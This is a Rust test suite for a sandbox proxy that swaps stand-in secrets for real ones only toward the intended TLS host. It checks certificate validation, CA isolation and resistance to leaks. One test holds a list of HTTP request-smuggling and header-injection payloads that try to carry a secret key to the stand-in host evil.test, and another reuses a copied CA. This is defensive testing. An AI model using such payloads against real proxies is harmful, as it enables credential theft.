//! Secrets through the proxy: they reach only the server they are for, however a command
//! requests it.

mod world;

use prowess_sandbox::{Command, Execution, Verdict};
use world::{STAND_IN, VALUE, World, new_container, run};

use crate::support::{OWNER, TestHost, everyone};
use serde_json::json;

fn bash(line: &str) -> Command {
    Command::Bash(line.into())
}

/// A connection to the proxy, and TLS through it.
const PYTHON: &str = "
import os, socket, ssl
def proxy():
    return socket.create_connection(('127.0.0.1', 3128), 20)
def tunnel(host, sni=None):
    plain = proxy()
    plain.sendall(f'CONNECT {host}:443 HTTP/1.1\\r\\n\\r\\n'.encode())
    answer = plain.recv(4096)
    assert b' 200 ' in answer, answer
    return ssl.create_default_context().wrap_socket(plain, server_hostname=sni or host)
def everything(stream):
    got = b''
    while True:
        try: piece = stream.recv(65536)
        except OSError: return got
        if not piece: return got
        got += piece
def ask(stream, text):
    stream.sendall(text.encode('latin-1'))
    print(everything(stream).split(b'\\r\\n')[0].decode())
";

fn python(program: &str) -> Command {
    Command::Python(format!("{PYTHON}{program}"))
}

#[tokio::test(flavor = "multi_thread")]
async fn curl_and_python_send_the_secret_over_tls_and_never_see_it() {
    let world = World::new();
    let one = world.sandbox(|_| {}).await;
    let id = new_container(&one).await;
    let curl = bash(
        "curl -sS --max-time 60 \"https://good.test/p?k=$KEY\" -H \"Authorization: Bearer $KEY\" -d \"b=$KEY\"",
    );
    let report = run(&one, &id, curl).await;
    assert_eq!(report.stdout.text, "hello", "{}", report.stderr.text);
    assert_eq!(report.connections[0].verdict, Verdict::Allowed);
    let program = "
import urllib.request
key = os.environ['KEY']
request = urllib.request.Request('https://a.deep.test/p?k=' + key, data=('b=' + key).encode(), headers={'X-Key': key})
print(urllib.request.urlopen(request).read().decode())";
    let report = run(&one, &id, python(program)).await;
    assert_eq!(report.stdout.text, "hello\n", "{}", report.stderr.text);

    let seen = world.seen();
    for ((name, request), (host, field)) in seen.iter().zip([
        ("good.test", format!("authorization: Bearer {VALUE}\r\n")),
        ("a.deep.test", format!("x-key: {VALUE}\r\n")),
    ]) {
        assert_eq!(name.as_deref(), Some(host));
        assert!(
            request.starts_with(&format!("POST /p?k={STAND_IN} HTTP/1.1\r\n")),
            "{request}"
        );
        assert!(
            request.contains(&format!("\r\nhost: {host}\r\n")),
            "{request}"
        );
        assert!(request.contains(&field), "{request}");
        assert!(
            request.ends_with(&format!("\r\n\r\nb={STAND_IN}")),
            "{request}"
        );
        assert_eq!(request.matches(VALUE).count(), 1, "{request}");
    }
    assert_eq!(seen.len(), 2);
}

#[test]
fn a_server_of_root_and_of_a_user_both_open_tls_for_the_secret() {
    for who in everyone() {
        let world = World::new();
        let command = "curl -sS --max-time 60 https://good.test/ -H \"X-Key: KEY-STAND-IN\"";
        let report = TestHost::new(who)
            .run(json!({"web": world.for_helper(), "runs": [{"command": {"bash": command}}]}))
            .remove(0);
        assert_eq!(report["stdout"]["text"], "hello", "{who:?} {report}");
        assert!(world.only().contains(VALUE), "{who:?}");
        assert!(!report.to_string().contains(VALUE), "{who:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_interpreter_that_waited_trusts_its_proxy_too() {
    let world = World::new();
    let one = world.sandbox(|settings| settings.warm = 1).await;
    let id = new_container(&one).await;
    let program = "
import urllib.request
request = urllib.request.Request('https://good.test/', headers={'X-Key': os.environ['KEY']})
print(urllib.request.urlopen(request).read().decode())";
    for _ in 0..2 {
        let report = run(&one, &id, python(program)).await;
        assert_eq!(report.stdout.text, "hello\n", "{}", report.stderr.text);
        while one.sandbox.warm_count() == 0 {
            tokio::time::sleep(std::time::Duration::from_millis(1)).await;
        }
    }
    assert!(
        world
            .seen()
            .iter()
            .all(|(_, request)| request.contains(VALUE))
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_with_a_wrong_certificate_gets_nothing() {
    let world = World::new();
    let one = world.sandbox(|_| {}).await;
    let id = new_container(&one).await;
    for host in ["wrong.test", "untrusted.test"] {
        let line = format!(
            "curl -sS --max-time 60 -w '%{{http_code}}' https://{host}/ -H \"X-Key: $KEY\""
        );
        let report = run(&one, &id, bash(&line)).await;
        let printed = &report.stdout.text;
        let message =
            format!("refuses {host}:443: the server's certificate is not valid for this name");
        assert!(
            printed.contains(&message) && printed.ends_with("502"),
            "{printed}"
        );
        assert_eq!(report.connections[0].verdict, Verdict::BadCertificate);
    }
    assert_eq!(world.seen(), []);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_without_a_secret_is_not_opened() {
    let world = World::new();
    let one = world.sandbox(|_| {}).await;
    let id = new_container(&one).await;
    let ca = world.ca.clone().into_bytes();
    one.sandbox.put(OWNER, &id, "server.pem", ca).await.unwrap();
    // Its own certificate is seen, which the container's authority has not signed ...
    let line = |host: &str| {
        format!(
            "curl -sS --max-time 60 --cacert server.pem https://{host}/ -H \"X-Key: $KEY\"; echo $?"
        )
    };
    let report = run(&one, &id, bash(&line("plain.test"))).await;
    assert_eq!(report.stdout.text, "hello0\n", "{}", report.stderr.text);
    assert!(
        world
            .only()
            .to_lowercase()
            .contains("x-key: key-stand-in\r\n")
    );
    // ... while that of a host with one is not.
    let report = run(&one, &id, bash(&line("good.test"))).await;
    assert_eq!(report.stdout.text, "60\n", "{}", report.stderr.text);
    assert_eq!(report.connections[0].verdict, Verdict::NotTrusted);
    assert_eq!(world.seen().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn no_other_command_trusts_the_authority_of_one() {
    let world = World::new();
    let one = world.sandbox(|_| {}).await;
    let (id, other) = (new_container(&one).await, new_container(&one).await);
    let report = run(&one, &id, bash("tail -n 40 $SSL_CERT_FILE")).await;
    let (_, last) = report.stdout.text.rsplit_once("-----BEGIN").unwrap();
    assert!(!report.stdout.text.contains("PRIVATE"));
    let stolen = format!("-----BEGIN{last}").into_bytes();
    one.sandbox
        .put(OWNER, &other, "stolen.pem", stolen)
        .await
        .unwrap();
    let line =
        "curl -sS --max-time 60 --cacert stolen.pem https://good.test/ -H \"X-Key: $KEY\"; echo $?";
    let report = run(&one, &other, bash(line)).await;
    assert_eq!(report.stdout.text, "60\n", "{}", report.stderr.text);
    // Without secrets there is no authority, and nothing is intercepted.
    let execution = Execution {
        command: bash("ls -A /etc/prowess; echo ${SSL_CERT_FILE-none}"),
        ..Execution::default()
    };
    let report = one.sandbox.exec(OWNER, &other, execution).await.unwrap();
    assert_eq!(report.stdout.text, "none\n", "{}", report.stderr.text);
    assert_eq!(world.seen(), []);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_certificates_can_be_read_and_not_changed() {
    let world = World::new();
    let one = world.sandbox(|_| {}).await;
    let id = new_container(&one).await;
    let line = "for f in $SSL_CERT_FILE $REQUESTS_CA_BUNDLE $CURL_CA_BUNDLE $NODE_EXTRA_CA_CERTS \
        $PIP_CERT $GIT_SSL_CAINFO $AWS_CA_BUNDLE; do grep -q BEGIN $f && echo $f; done; \
        (echo x > /etc/prowess/ca.pem) 2>/dev/null || (touch /etc/prowess/x) 2>/dev/null || \
        rm -f /etc/prowess/ca.pem 2>/dev/null || echo closed";
    let report = run(&one, &id, bash(line)).await;
    let expected = "/etc/prowess/ca.pem\n".repeat(7) + "closed\n";
    assert_eq!(report.stdout.text, expected, "{}", report.stderr.text);
}

#[tokio::test(flavor = "multi_thread")]
async fn with_opening_turned_off_secrets_stay_stand_ins_over_tls() {
    let world = World::new();
    let one = world.sandbox(|settings| settings.open_tls = false).await;
    let id = new_container(&one).await;
    let line = "curl -sSk --max-time 60 https://good.test/ -H \"X-Key: $KEY\"; ls -A /etc/prowess";
    let report = run(&one, &id, bash(line)).await;
    assert_eq!(report.stdout.text, "hello", "{}", report.stderr.text);
    assert!(world.only().contains(STAND_IN));
}

#[tokio::test(flavor = "multi_thread")]
async fn no_target_header_or_second_request_carries_the_secret_elsewhere() {
    let world = World::new();
    let one = world.sandbox(|_| {}).await;
    let id = new_container(&one).await;
    let program = "
key = os.environ['KEY']
tail = f'x-key: {key}\\r\\n\\r\\n'
def target(t): return f'GET {t} HTTP/1.1\\r\\nhost: HOST\\r\\n{tail}'
def field(f): return f'POST TARGET HTTP/1.1\\r\\n{f}\\r\\n{tail}'
attacks = [
    target('TARGET\\tHTTP/1.1\\nHost:evil.test\\nX:\\t'), target('TARGET HTTP/1.1\\nHost:evil.test\\nX:'),
    target('TARGET\\rHost:evil.test'), target('TARGET\\0'), target('TARGET\\x7f'), target('TARGET\\x85'),
    target('http://evil.test@HOST/'), target('http://HOST@evil.test/'), target('*'),
    field('host: evil.test'), field('host: HOST\\r\\nhost: evil.test'), field('host: HOST:+80'),
    field('host: HOST:080'), field('host: HOST\\nx: y'), field('host: HOST\\r\\n folded'),
    field('host: HOST\\r\\ncontent-length: +5'), field('host: HOST\\r\\ncontent-length: 5\\r\\ncontent-length: 6'),
    field('host: HOST\\r\\ntransfer-encoding: chunked'), field('host: HOST\\r\\ntransfer-encoding : chunked'),
    field('host: HOST\\r\\ncontent_length: 0'),
    f'TRACE TARGET HTTP/1.1\\r\\nhost: HOST\\r\\n{tail}', f'GET TARGET HTTP/2.0\\r\\nhost: HOST\\r\\n{tail}',
    f'GET  TARGET HTTP/1.1\\r\\nhost: HOST\\r\\n{tail}', f'\\nGET TARGET HTTP/1.1\\nhost: HOST\\n\\n{tail}',
]
for attack in attacks:
    ask(proxy(), attack.replace('TARGET', 'http://http.test/').replace('HOST', 'http.test'))
    ask(tunnel('good.test'), attack.replace('TARGET', '/').replace('HOST', 'good.test'))
two = f'GET TARGET HTTP/1.1\\r\\nhost: HOST\\r\\ncontent-length: 2\\r\\n{tail}hiGET TARGET HTTP/1.1\\r\\nhost: evil.test\\r\\n{tail}'
ask(proxy(), two.replace('TARGET', 'http://http.test/').replace('HOST', 'http.test'))
ask(tunnel('good.test'), two.replace('TARGET', '/').replace('HOST', 'good.test'))
";
    let report = run(&one, &id, python(program)).await;
    let mut answers: Vec<&str> = report.stdout.text.lines().collect();
    let fine = answers.split_off(answers.len() - 2);
    assert_eq!(fine, ["HTTP/1.1 200 OK"; 2], "{}", report.stderr.text);
    assert_eq!(answers.len(), 48, "{}", report.stderr.text);
    let refused = ["HTTP/1.1 400 Bad Request", "HTTP/1.1 403 Forbidden"];
    assert!(
        answers.iter().all(|answer| refused.contains(answer)),
        "{answers:?}"
    );
    let seen = world.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    for (_, request) in seen {
        assert!(!request.contains("evil.test"), "{request}");
        assert!(request.ends_with("\r\n\r\nhi"), "{request}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tunnel_is_for_the_name_it_was_made_for() {
    let world = World::new();
    let one = world.sandbox(|_| {}).await;
    let id = new_container(&one).await;
    let program = "
for host, sni in (('good.test', 'plain.test'), ('plain.test', 'good.test'), ('good.test', 'evil.test')):
    try:
        tunnel(host, sni)
        print('POSSIBLE')
    except ssl.SSLError as error:
        print(error.reason)
for target in ('good.test', 'good.test:+443', 'good.test:0443', 'user@good.test:443', 'good.test:443/', '[good.test]:443'):
    ask(proxy(), f'CONNECT {target} HTTP/1.1\\r\\n\\r\\n')
";
    let report = run(&one, &id, python(program)).await;
    let expected = "TLSV1_UNRECOGNIZED_NAME\n".repeat(3) + &"HTTP/1.1 400 Bad Request\n".repeat(6);
    assert_eq!(report.stdout.text, expected, "{}", report.stderr.text);
    let reasons: Vec<_> = report.connections[..3]
        .iter()
        .map(|one| one.reason.clone())
        .collect();
    assert_eq!(
        reasons[0].as_deref(),
        Some("the ClientHello names plain.test")
    );
    assert_eq!(world.seen(), []);
}
